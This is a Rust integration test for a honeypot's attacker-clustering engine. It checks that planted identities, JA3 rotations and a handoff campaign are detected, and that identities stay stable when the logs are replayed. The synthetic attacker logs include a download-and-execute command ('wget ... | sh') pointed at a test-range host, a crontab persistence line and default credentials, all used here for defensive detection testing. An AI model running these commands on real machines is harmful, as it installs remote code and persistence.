//! Planted actors (issue 8): one actor behind 6 addresses (5 share a HASSH and
//! a download server, the sixth only its typing rhythm, commands and passwords), one client rotating its JA3
//! on one address, two identities handing a decky over (a campaign), and noise
//! that shares only tool-level signals (a popular JA3, common commands and
//! passwords, an AS). Identities, rotations and campaigns must be exactly the
//! planted ones, replaying the lines must change nothing, and the rotation
//! NOTIFY must reach a real LISTEN.

use decnet_it::typist::{Typist, PLAYBOOK};
use decnet_it::*;
use postgres::fallible_iterator::FallibleIterator;
use postgres::Client;
use std::collections::BTreeSet;
use std::fmt::Write as _;

const ACTOR: [&str; 6] = [
    "198.51.100.1",
    "198.51.100.2",
    "198.51.100.3",
    "198.51.100.4",
    "198.51.100.5",
    "198.51.100.6",
];
const ROTATOR: &str = "203.0.113.50";
const HANDOFF: [&str; 2] = ["192.0.2.77", "192.0.2.88"];
const NOISE: usize = 60;
const MEMBERSHIP: &str =
    "SELECT host(attacker_ip) || '=' || identity_id FROM decnet.identity_members ORDER BY 1";

fn noise_ip(i: usize) -> String {
    format!("100.64.{}.{}", i / 200, i % 200 + 1)
}

fn at(minute: usize, second: usize) -> String {
    format!(
        "2026-05-01T{:02}:{:02}:{:02}+00:00",
        minute / 60,
        minute % 60,
        second
    )
}

fn corpus() -> String {
    let mut out = String::new();
    let mut line = |ts: String, host: &str, app: &str, event: &str, sd: String| {
        writeln!(out, "<134>1 {ts} {host} {app} - {event} [relay@55555 {sd}]").unwrap();
    };
    // the actor: five addresses with one SSH server (HASSH), all six run its playbook
    for (k, ip) in ACTOR.iter().enumerate() {
        if k < 5 {
            line(
                at(10 * k, 0),
                "decnet-prober",
                "prober",
                "hassh_fingerprint",
                format!(
                    r#"target_ip="{ip}" target_port="22" hassh_server_hash="hassh-of-the-actor""#
                ),
            );
        }
        line(
            at(10 * k, 1),
            "decky-01",
            "ssh",
            "connection",
            format!(r#"src_ip="{ip}""#),
        );
        // the actor's own password list (root/toor, admin/Adm1n!)
        for secret in ["dG9vcg==", "QWRtMW4h"] {
            line(
                at(10 * k, 1),
                "decky-01",
                "auth-helper",
                "auth_attempt",
                format!(r#"src_ip="{ip}" username="root" secret_b64="{secret}""#),
            );
        }
        for (c, cmd) in PLAYBOOK.iter().enumerate() {
            // the sixth never touches the actor's download server: only its rhythm, commands and passwords tie it
            if k == 5 && !decnet_core::identity::c2_endpoints(cmd).is_empty() {
                continue;
            }
            line(
                at(10 * k, 2 + c),
                "decky-01",
                "bash",
                "command",
                format!(r#"src_ip="{ip}" command="{cmd}""#),
            );
        }
    }
    // the rotator: one address, one port, JA3 b1 b1 b2 b2 b3 (two rotations)
    for (k, ja3) in ["ja3-b1", "ja3-b1", "ja3-b2", "ja3-b2", "ja3-b3"]
        .iter()
        .enumerate()
    {
        line(
            at(100 + k, 0),
            "decky-02",
            "sniffer",
            "tls_client_hello",
            format!(
                r#"src_ip="{ROTATOR}" src_port="5000{k}" dst_ip="10.0.0.2" dst_port="443" ja3="{ja3}" ja4="t13d_{k}""#
            ),
        );
    }
    // a handoff on db-01: one identity leaves persistence, another starts discovery an hour later
    line(
        at(200, 0),
        "db-01",
        "bash",
        "command",
        format!(
            r#"src_ip="{}" command="wget http://198.18.0.1/a.sh -O- | sh""#,
            HANDOFF[0]
        ),
    );
    line(
        at(201, 0),
        "db-01",
        "bash",
        "command",
        format!(
            r#"src_ip="{}" command="echo '* * * * * /tmp/a' | crontab -""#,
            HANDOFF[0]
        ),
    );
    line(
        at(261, 0),
        "db-01",
        "bash",
        "command",
        format!(r#"src_ip="{}" command="cat /etc/os-release""#, HANDOFF[1]),
    );
    line(
        at(262, 0),
        "db-01",
        "bash",
        "command",
        format!(r#"src_ip="{}" command="netstat -tlnp""#, HANDOFF[1]),
    );
    // noise: a popular client JA3, common commands and one password, one AS
    for i in 0..NOISE {
        let ip = noise_ip(i);
        line(
            at(300 + i, 0),
            "decky-03",
            "sniffer",
            "tls_client_hello",
            format!(
                r#"src_ip="{ip}" src_port="40000" dst_ip="10.0.0.3" dst_port="443" ja3="ja3-of-curl" ja4="t13d_curl""#
            ),
        );
        line(
            at(300 + i, 1),
            "decnet-prober",
            "prober",
            "hassh_fingerprint",
            format!(r#"target_ip="{ip}" target_port="22" hassh_server_hash="hassh-noise-{i}""#),
        );
        line(
            at(300 + i, 2),
            "decky-03",
            "auth-helper",
            "auth_attempt",
            format!(r#"src_ip="{ip}" username="root" secret_b64="MTIzNDU2""#),
        );
        line(
            at(300 + i, 3),
            "decky-03",
            "bash",
            "command",
            format!(r#"src_ip="{ip}" command="uname -a""#),
        );
        line(
            at(300 + i, 4),
            "decky-03",
            "bash",
            "command",
            format!(r#"src_ip="{ip}" command="id""#),
        );
    }
    out
}

/// The actor types with one rhythm on all six addresses; two noise addresses type too, each its own way.
fn record_sessions(c: &mut Client) {
    let actor = Typist {
        seed: 42,
        base: 0.12,
    };
    let mut rng = Rng::new(3);
    let mut insert = |sid: String, ip: &str, t: &Typist, rng: &mut Rng| {
        let events = t.session(&sid, PLAYBOOK, rng);
        c.execute("INSERT INTO decnet.session_recordings (sid, attacker_ip, decky, service, events) VALUES ($1, $2::text::inet, 'decky-01', 'ssh', $3)",
                  &[&sid, &ip, &events]).unwrap();
    };
    for ip in ACTOR {
        for s in 0..2 {
            insert(format!("{ip}-{s}"), ip, &actor, &mut rng);
        }
    }
    for (i, base) in [(0usize, 0.07), (1, 0.3)] {
        let t = Typist {
            seed: 900 + i as u64,
            base,
        };
        insert(format!("noise-{i}"), &noise_ip(i), &t, &mut rng);
    }
}

fn drain(c: &mut Client) {
    while count(c, "SELECT attackers::bigint FROM decnet.rollup(100000)") > 0 {}
}

/// Member address sets of identities with more than one member.
fn groups(c: &mut Client) -> BTreeSet<Vec<String>> {
    column(c, "SELECT ARRAY(SELECT host(m) FROM unnest(member_ips) m ORDER BY 1) FROM decnet.identity_summary WHERE member_count > 1")
        .into_iter()
        .collect()
}

/// Every decnet_rotation notification that arrives within a second (payloads from the outbox).
fn rotation_notes(listener: &mut Client) -> Vec<serde_json::Value> {
    let mut seqs = Vec::new();
    {
        let mut n = listener.notifications();
        let mut it = n.timeout_iter(std::time::Duration::from_secs(1));
        while let Some(note) = it.next().unwrap() {
            seqs.push(note.payload().to_owned());
        }
    }
    seqs.iter()
        .map(|seq| notification(listener, "decnet_rotation", seq))
        .collect()
}

/// Issue 18: the actor's identity says why each address belongs. The five
/// that share the HASSH and the download server are joined by them (high tier),
/// the sixth by its rhythm with shared commands or passwords; nothing links
/// anyone else.
fn assert_actor_links_explained(c: &mut Client, actor: &[String]) {
    let id: String = c
        .query_one(
            "SELECT identity_id::text FROM decnet.identity_summary WHERE member_count = 6",
            &[],
        )
        .unwrap()
        .get(0);
    let links = c
        .query("SELECT host(a), host(b), tier, kind, value, weight FROM decnet.identity_links($1::text::uuid)", &[&id])
        .unwrap();
    let linked: BTreeSet<String> = links
        .iter()
        .flat_map(|r| [r.get::<_, String>(0), r.get(1)])
        .collect();
    assert_eq!(
        linked,
        actor.iter().cloned().collect(),
        "every member is explained: {links:?}"
    );
    let high: BTreeSet<(String, String)> = links
        .iter()
        .filter(|r| r.get::<_, &str>(2) == "high")
        .map(|r| (r.get::<_, String>(3), r.get::<_, String>(4)))
        .collect();
    assert!(
        high.contains(&("hassh".to_string(), "hassh-of-the-actor".to_string())),
        "{high:?}"
    );
    assert!(
        high.iter()
            .all(|(kind, _)| kind == "hassh" || kind == "c2" || kind == "payload_hash"),
        "{high:?}"
    );
    // the sixth address: no shared fingerprint, so its edges hold through the weaker tiers together
    let sixth = &actor[5];
    let mut weight_by_edge: std::collections::BTreeMap<
        (String, String),
        std::collections::BTreeMap<String, f64>,
    > = Default::default();
    for r in links
        .iter()
        .filter(|r| &r.get::<_, String>(0) == sixth || &r.get::<_, String>(1) == sixth)
    {
        assert_ne!(r.get::<_, &str>(2), "high", "{r:?}");
        weight_by_edge
            .entry((r.get(0), r.get(1)))
            .or_default()
            .insert(r.get(2), r.get(5));
    }
    assert!(!weight_by_edge.is_empty());
    for (edge, tiers) in &weight_by_edge {
        assert!(tiers.contains_key("keystroke"), "{edge:?}: {tiers:?}");
        assert!(
            tiers.values().sum::<f64>() >= 1.0,
            "{edge:?} holds at 1.0: {tiers:?}"
        );
    }
    let by_kind: serde_json::Value = c
        .query_one("SELECT linked_by::text FROM decnet.identity_summary WHERE identity_id = $1::text::uuid", &[&id])
        .unwrap()
        .get::<_, String>(0)
        .parse()
        .unwrap();
    assert!(
        by_kind["hassh"].as_i64().unwrap() >= 10,
        "the five share it pairwise: {by_kind}"
    );
    assert!(by_kind["kd_simhash"].as_i64().unwrap() >= 1, "{by_kind}");
    let outside = count(
        c,
        &format!(
            "SELECT count(*) FROM decnet.identity_link_signals WHERE NOT (host(a) = ANY ('{{{0}}}') AND host(b) = ANY ('{{{0}}}'))",
            actor.join(",")
        ),
    );
    assert_eq!(
        outside, 0,
        "noise, the rotator and the hand-off pair are linked to nobody"
    );
}

#[test]
fn planted_actors_are_found_and_nothing_else() {
    let mut c = migrated_db("it_identities");
    let mut listener = connect(&dsn_for("it_identities"));
    listener.batch_execute("LISTEN decnet_rotation").unwrap();
    // the AS of all noise addresses: a shared AS alone links nobody
    c.batch_execute(
        "SELECT decnet.load_iptoasn(E'100.64.0.0\\t100.64.255.255\\t64500\\tZZ\\tNOISE-AS\\n')",
    )
    .unwrap();

    let lines = corpus();
    ingest_bytes(&mut c, lines.as_bytes());
    record_sessions(&mut c);
    drain(&mut c);
    c.batch_execute("SELECT * FROM decnet.cluster_campaigns()")
        .unwrap();

    // exactly one multi-address identity: the actor, its sixth address linked by rhythm and commands
    let mut actor: Vec<String> = ACTOR.iter().map(|s| s.to_string()).collect();
    actor.sort();
    let rhythm: Vec<String> = column(&mut c, "SELECT s.attacker_ip::text || ':' || encode(decnet.kd_centroid(s.kd_simhash), 'hex')
                                              FROM decnet.session_profiles s GROUP BY s.attacker_ip ORDER BY 1");
    assert_eq!(
        groups(&mut c),
        BTreeSet::from([actor.clone()]),
        "keystroke centroids: {rhythm:?}"
    );
    let row = c
        .query_one("SELECT hassh_hashes, kd_digraph_simhash IS NOT NULL, ja3_hashes FROM decnet.identity_summary WHERE member_count = 6", &[])
        .unwrap();
    assert_eq!(
        row.get::<_, Option<Vec<String>>>(0),
        Some(vec!["hassh-of-the-actor".to_string()])
    );
    assert!(
        row.get::<_, bool>(1),
        "the identity carries the keystroke centroid"
    );
    assert_eq!(
        row.get::<_, Option<Vec<String>>>(2),
        None,
        "no JA3 on the actor: NULL, not an empty list"
    );
    assert_actor_links_explained(&mut c, &actor);
    // every other address is alone
    let attackers = count(&mut c, "SELECT count(*) FROM decnet.attackers");
    assert_eq!(attackers as usize, ACTOR.len() + 1 + HANDOFF.len() + NOISE);
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.identity_summary"),
        attackers - 5
    );
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.identity_members"),
        attackers
    );

    // exactly the planted rotations, on the rotator's JA3
    let rotations: Vec<(String, String, String)> = c
        .query("SELECT host(attacker_ip), old_hash, new_hash FROM decnet.fingerprint_rotations ORDER BY rotated_at", &[])
        .unwrap()
        .iter()
        .map(|r| (r.get(0), r.get(1), r.get(2)))
        .collect();
    let want = |o: &str, n: &str| (ROTATOR.to_string(), o.to_string(), n.to_string());
    assert_eq!(
        rotations,
        vec![want("ja3-b1", "ja3-b2"), want("ja3-b2", "ja3-b3")]
    );
    assert_eq!(
        count(
            &mut c,
            &format!("SELECT rotation_count::bigint FROM decnet.attackers WHERE ip = '{ROTATOR}'")
        ),
        2
    );
    let notes = rotation_notes(&mut listener);
    assert_eq!(notes.len(), 1, "one notification for the statement");
    assert_eq!(notes[0]["count"], 2);
    assert_eq!(notes[0]["rotations"][1]["new_hash"], "ja3-b3");

    // one campaign: the two identities of the handoff
    let campaigns: Vec<Vec<String>> = column(&mut c, "SELECT ARRAY(SELECT host(m) FROM unnest(member_ips) m ORDER BY 1) FROM decnet.campaign_summary");
    assert_eq!(
        campaigns,
        vec![HANDOFF.iter().map(|s| s.to_string()).collect::<Vec<_>>()]
    );

    // replaying every line changes no identity, rotation or campaign, and verify() stays empty
    let before: Vec<String> = column(&mut c, MEMBERSHIP);
    ingest_bytes(&mut c, lines.as_bytes());
    drain(&mut c);
    c.batch_execute(
        "SELECT * FROM decnet.cluster_campaigns(); SELECT * FROM decnet.recluster_identities()",
    )
    .unwrap();
    let after: Vec<String> = column(&mut c, MEMBERSHIP);
    assert_eq!(
        before, after,
        "identities are stable across a replay and a full pass"
    );
    // the full pass rewrites the links from scratch, with the same explanation
    assert_actor_links_explained(&mut c, &actor);
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.fingerprint_rotations"),
        2
    );
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.campaign_summary"),
        1
    );
    assert_eq!(
        rotation_notes(&mut listener).len(),
        0,
        "a replay rotates nothing"
    );
    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.verify()"), 0);
}

#[test]
fn a_full_pass_splits_what_no_longer_holds_together() {
    let mut c = migrated_db("it_identity_split");
    let probe = |ip: &str, hash: &str| {
        format!("<134>1 2026-05-01T00:00:00+00:00 decnet-prober prober - hassh_fingerprint [relay@55555 target_ip=\"{ip}\" target_port=\"22\" hassh_server_hash=\"{hash}\"]\n")
    };
    // three addresses share one HASSH: one identity
    let lines: String = ["10.9.0.1", "10.9.0.2", "10.9.0.3"]
        .iter()
        .map(|ip| probe(ip, "h-shared"))
        .collect();
    ingest_bytes(&mut c, lines.as_bytes());
    drain(&mut c);
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.identity_summary"),
        1
    );
    let id: String = c
        .query_one("SELECT decnet.identity_of('10.9.0.1')::text", &[])
        .unwrap()
        .get(0);
    // the value becomes common (60 more addresses): it now marks a tool, not an actor
    let more: String = (0..60)
        .map(|i| probe(&format!("10.9.1.{i}"), "h-shared"))
        .collect();
    ingest_bytes(&mut c, more.as_bytes());
    drain(&mut c);
    assert_eq!(
        count(
            &mut c,
            "SELECT count(*) FROM decnet.identity_summary WHERE member_count > 1"
        ),
        1,
        "incremental passes only grow"
    );
    c.batch_execute("SELECT * FROM decnet.recluster_identities()")
        .unwrap();
    assert_eq!(
        count(
            &mut c,
            "SELECT count(*) FROM decnet.identity_summary WHERE member_count > 1"
        ),
        0,
        "the full pass splits it"
    );
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.identity_summary"),
        63
    );
    // the old id lives on in one of the parts, so references to it still resolve
    let live: i64 = count(&mut c, &format!("SELECT count(*) FROM decnet.identity_members WHERE identity_id = decnet.resolve_identity('{id}')"));
    assert_eq!(live, 1);
}
